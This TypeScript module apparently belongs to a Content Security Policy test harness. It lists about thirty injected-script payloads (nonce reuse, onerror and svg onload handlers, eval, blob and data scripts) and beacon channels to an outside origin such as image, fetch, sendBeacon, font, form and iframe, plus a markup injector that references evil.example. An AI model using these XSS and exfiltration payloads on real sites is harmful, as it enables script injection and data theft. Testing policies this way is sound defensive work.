interface Payload {
  readonly name: string
  /**
   * An expression for the page with placeholders `NAME` and `ORIGIN`. It pushes its name to `window.ran` when it runs, and requests `ORIGIN/beacon`
   * when it gets out.
   */
  readonly source: string
}

const push = "(window.ran ??= []).push('NAME')"

/** Reads the page's own nonce, if there is one, as injected code would. */
const ownNonce = "(document.querySelector('[nonce]') ?? document.querySelector('meta[property=csp-nonce]'))?.nonce ?? ''"

export const payloads: readonly Payload[] = [
  { name: 'inline script', source: `(() => { const s = document.createElement('script'); s.textContent = "${push}"; document.body.append(s) })()` },
  {
    name: 'inline script with the page’s own nonce',
    source: `(() => { const s = document.createElement('script'); s.nonce = ${ownNonce}; s.textContent = "${push}"; document.body.append(s) })()`
  },
  {
    name: 'inline module with the page’s own nonce',
    source: `(() => { const s = document.createElement('script'); s.type = 'module'; s.nonce = ${ownNonce}; s.textContent = "${push}"; document.body.append(s) })()`
  },
  {
    name: 'remote script with the page’s own nonce',
    source: `(() => { const s = document.createElement('script'); s.nonce = ${ownNonce}; s.src = 'ORIGIN/script.js?NAME'; document.body.append(s) })()`
  },
  {
    name: 'inline style with the page’s own nonce',
    source: `(() => { const s = document.createElement('style'); s.nonce = ${ownNonce}; s.textContent = 'body { --nonce-ran: 1; background: url(ORIGIN/beacon?NAME) }'; document.head.append(s); if (getComputedStyle(document.body).getPropertyValue('--nonce-ran').trim() === '1') { ${push} } })()`
  },
  {
    name: 'beacon in a style that script makes',
    source: `(() => { const s = new CSSStyleSheet(); s.replaceSync('body { border-image-source: url(ORIGIN/beacon?NAME) }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s] })()`
  },
  { name: 'beacon by a style attribute', source: `(() => { document.body.style.listStyleImage = 'url(ORIGIN/beacon?NAME)' })()` },
  {
    name: 'beacon link',
    source: `(() => { for (const rel of ['prefetch', 'preconnect', 'modulepreload']) { const l = document.createElement('link'); l.rel = rel; l.href = 'ORIGIN/beacon?NAME'; document.head.append(l) } })()`
  },
  {
    name: 'inline handler',
    source: `(() => { const d = document.createElement('div'); d.innerHTML = '<img src="x:" onerror="(window.ran ??= []).push(\\'NAME\\')">'; document.body.append(d) })()`
  },
  {
    name: 'svg onload',
    source: `(() => { const d = document.createElement('div'); d.innerHTML = '<svg onload="(window.ran ??= []).push(\\'NAME\\')"></svg>'; document.body.append(d) })()`
  },
  { name: 'late eval', source: `setTimeout(() => { try { window.eval("${push}") } catch {} }, 0)` },
  { name: 'late function', source: `setTimeout(() => { try { new Function("${push}")() } catch {} }, 0)` },
  { name: 'string timer', source: `(() => { try { setTimeout("${push}", 0) } catch {} })()` },
  {
    name: 'remote script',
    source: `(() => { const s = document.createElement('script'); s.src = 'ORIGIN/script.js?NAME'; document.body.append(s) })()`
  },
  {
    name: 'data script',
    source: `(() => { const s = document.createElement('script'); s.src = "data:text/javascript,${push}"; document.body.append(s) })()`
  },
  {
    name: 'blob script',
    source: `(() => { const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(["${push}"], { type: 'text/javascript' })); document.body.append(s) })()`
  },
  { name: 'late import', source: `setTimeout(() => { import('ORIGIN/script.js?NAME').catch(() => undefined) }, 0)` },
  {
    name: 'worker',
    source: `(() => { try { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => { ${push} } } catch {} })()`
  },
  {
    name: 'late webassembly',
    source: `setTimeout(() => { WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => { ${push} }, () => undefined) }, 0)`
  },
  { name: 'beacon image', source: `(() => { new Image().src = 'ORIGIN/beacon?NAME' })()` },
  { name: 'beacon fetch', source: `fetch('ORIGIN/beacon?NAME', { mode: 'no-cors' }).catch(() => undefined).then(() => undefined)` },
  { name: 'beacon call', source: `navigator.sendBeacon('ORIGIN/beacon?NAME', 'x')` },
  {
    name: 'beacon style',
    source: `(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'ORIGIN/beacon?NAME'; document.head.append(l) })()`
  },
  { name: 'beacon font', source: `new FontFace('x', 'url(ORIGIN/beacon?NAME)').load().catch(() => undefined).then(() => undefined)` },
  { name: 'beacon socket', source: `(() => { try { new WebSocket('ORIGIN'.replace('http', 'ws') + '/beacon') } catch {} })()` },
  {
    name: 'form',
    source: `(() => { const f = document.createElement('form'); f.action = 'ORIGIN/beacon'; f.method = 'post'; f.target = 'hidden-frame'; document.body.append(f); f.submit() })()`
  },
  {
    name: 'base',
    source: `(() => { const b = document.createElement('base'); b.href = 'ORIGIN/'; document.head.append(b); const i = new Image(); i.src = 'beacon?NAME'; b.remove() })()`
  },
  { name: 'frame', source: `(() => { const f = document.createElement('iframe'); f.src = 'ORIGIN/beacon?NAME'; document.body.append(f) })()` },
  {
    name: 'source frame',
    source: `(() => { const f = document.createElement('iframe'); f.srcdoc = "<script>(parent.ran ??= []).push('NAME')</script>"; document.body.append(f) })()`
  },
  { name: 'object', source: `(() => { const o = document.createElement('object'); o.data = 'ORIGIN/beacon?NAME'; document.body.append(o) })()` },
  {
    name: 'inline style element',
    source: `(() => { const s = document.createElement('style'); s.textContent = 'body { --ran: 1 }'; document.head.append(s); if (getComputedStyle(document.body).getPropertyValue('--ran').trim() === '1') { ${push} } })()`
  }
]

const SETTLE_MS = 1500

/** Runs each payload through `evaluate`, which the page's policy does not restrict, unlike the payload. Returns the names of those that ran. */
export async function tryPayloads(origin: string, evaluate: (source: string) => Promise<unknown>): Promise<readonly string[]> {
  for (const { name, source } of payloads) await evaluate(source.replaceAll('NAME', name).replaceAll('ORIGIN', origin))
  await new Promise((resolve) => {
    setTimeout(resolve, SETTLE_MS)
  })
  return (await evaluate('window.ran ?? []')) as string[]
}

/**
 * Inserts pieces of markup into the page as its own HTML, and acts on each as a user might. Returns how many times a script ran: a script sets
 * `window.ran=1`, and `https://evil.example` is replaced by `origin`.
 */
export async function tryMarkup(pieces: readonly string[], origin: string, evaluate: (source: string) => Promise<unknown>): Promise<number> {
  const markup = JSON.stringify(pieces.map((piece) => piece.replaceAll('https://evil.example', origin)))
  return (await evaluate(`(async () => {
    let count = 0
    Object.defineProperty(window, 'ran', { configurable: true, get: () => undefined, set: () => { count += 1 } })
    const box = document.body.appendChild(document.createElement('div'))
    for (const piece of ${markup}) {
      const place = box.appendChild(document.createElement('div'))
      place.innerHTML = piece
      for (const element of place.querySelectorAll('*')) {
        for (const type of ['click', 'mouseover', 'focus', 'begin', 'animationstart', 'toggle', 'pointerenter', 'cut']) element.dispatchEvent(new Event(type))
        if (element.getAttribute('href')?.startsWith('javascript:')) element.dispatchEvent(new MouseEvent('click', { cancelable: true }))
      }
    }
    await new Promise((done) => setTimeout(done, ${String(SETTLE_MS)}))
    box.remove()
    delete window.ran
    return count
  })()`)) as number
}
